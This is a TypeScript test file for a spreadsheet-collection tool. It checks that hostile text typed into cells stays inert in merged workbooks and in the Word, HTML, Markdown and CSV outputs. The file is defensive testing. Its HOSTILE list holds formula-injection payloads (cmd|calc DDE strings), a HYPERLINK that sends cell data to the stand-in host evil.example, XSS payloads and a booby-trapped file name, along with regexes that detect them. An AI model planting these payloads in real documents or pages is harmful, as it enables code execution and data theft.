import { readdirSync } from 'node:fs';
import { strFromU8, unzipSync } from 'fflate';
import * as Papa from 'papaparse';
import { SmallDistrict, sound, STREET, UNITS } from '../support/district';
import { snapshotOf } from '../support/xlsxFile';

/** What a clerk, or somebody in a clerk's name, may write where words are asked for. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[点这里](javascript:alert(1))',
  '"><a href="http://evil.example">点</a>',
];

/** What stands in a file's name is printed and written, too. */
const FILE = '=HYPERLINK("x")+cmd|calc!A0.xlsx';

const fileOf = (unit: string): string => (unit === STREET ? FILE : `${unit}.xlsx`);

describe('hostile words that were taken in', () => {
  const district = new SmallDistrict();

  beforeAll(async () => {
    await district.begin();
    let next = 0;
    for (const unit of UNITS) {
      const keys = Object.keys(
        (sound(unit) as Partial<ReturnType<typeof sound>>).values ?? {},
      ).slice(0, HOSTILE.length);
      const notes = keys.map((key): [string, unknown] => [key, HOSTILE[next++ % HOSTILE.length]]);
      await district.fill(unit, fileOf(unit), {}, Object.fromEntries(notes));
    }
    const files = UNITS.flatMap((unit) => ['--from', fileOf(unit)]);
    await district.run('collect', '--book', 'b.xlsx', ...files, '--receipts', 'receipts');
  }, 240_000);
  afterAll(() => {
    district.remove();
  });

  /** Cells whose text is hostile. */
  const hostileIn = (file: string): readonly string[] =>
    snapshotOf(district.path(file)).sheets.flatMap(({ values }) =>
      values
        .flat()
        .flatMap((value) => (typeof value === 'string' && isHostile(value) ? [value] : [])),
    );

  it('stay words in the book and in what senders get', () => {
    expect(new Set(hostileIn('b.xlsx').filter((text) => HOSTILE.includes(text)))).toEqual(
      new Set(HOSTILE),
    );
    const receipts = readdirSync(district.path('receipts')).map((name) => `receipts/${name}`);
    expect(receipts.length).toBeGreaterThan(0);
    for (const file of ['b.xlsx', ...receipts.filter((name) => name.endsWith('.xlsx'))]) {
      for (const [part, xml] of partsOf(district.bytes(file))) {
        expect([part, formulasOf(xml).filter(reachesOut)]).toEqual([part, []]);
        expect([part, relationsOf(xml)]).toEqual([part, []]);
      }
    }
  });

  it('stay words in the bulletin for Word', async () => {
    await district.must('bulletin', '--book', 'b.xlsx', '--out', 'b.docx');
    expect(partsOf(district.bytes('b.docx')).some(([, xml]) => xml.includes('evil.example'))).toBe(
      true,
    );
    for (const [part, xml] of partsOf(district.bytes('b.docx'))) {
      expect([part, /<w:(fldSimple|instrText|hyperlink)/.test(withoutPageNumbers(xml))]).toEqual([
        part,
        false,
      ]);
      expect([part, relationsOf(xml)]).toEqual([part, []]);
    }
  });

  it('stay words on the page for leaders, which runs nothing', async () => {
    await district.must('report', '--book', 'b.xlsx', '--html', 'b.html');
    const html = district.bytes('b.html').toString();
    expect(html).toContain("default-src 'none'");
    expect(html).not.toMatch(/<script|<img|javascript:|onerror=|href="http/);
  });

  it('stay words in Markdown', async () => {
    const { out } = await district.must('report', '--book', 'b.xlsx', '--markdown');
    expect(out).toContain('evil.example');
    expect(out).not.toMatch(/(?<!\\)<(script|img)|(?<!\\)\]\(javascript/);
  });

  it('stay words in tables of text, where a spreadsheet program would calculate', async () => {
    await district.must('export', '--book', 'b.xlsx', '--out', 'b.csv');
    const { data } = Papa.parse<readonly string[]>(district.bytes('b.csv').toString());
    const texts = data.slice(1).flat();
    expect(texts.some((text) => text.includes('HYPERLINK'))).toBe(true);
    expect(texts.filter((text) => /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(text))).toEqual([]);
  });
});

function isHostile(value: string): boolean {
  return HOSTILE.some((text) => value.includes(text));
}

function partsOf(bytes: Uint8Array): readonly (readonly [string, string])[] {
  return Object.entries(unzipSync(bytes))
    .filter(([path]) => /\.(xml|rels)$/.test(path))
    .map(([path, part]) => [path, strFromU8(part)] as const);
}

const formulasOf = (xml: string): readonly string[] =>
  [...xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map(([, formula = '']) => formula);

/** Links within the workbook begin with `#`. */
const reachesOut = (formula: string): boolean =>
  /cmd\||http|HYPERLINK\((?!"#|IF|&quot;#)/i.test(formula);

const relationsOf = (xml: string): readonly string[] =>
  [...xml.matchAll(/<Relationship [^>]*TargetMode="External"[^>]*>/g)].map(([found]) => found);

/** The number of the page is the only field of ours. */
function withoutPageNumbers(xml: string): string {
  return xml.replace(/<w:instrText[^>]*>\s*PAGE\s*<\/w:instrText>/g, '');
}
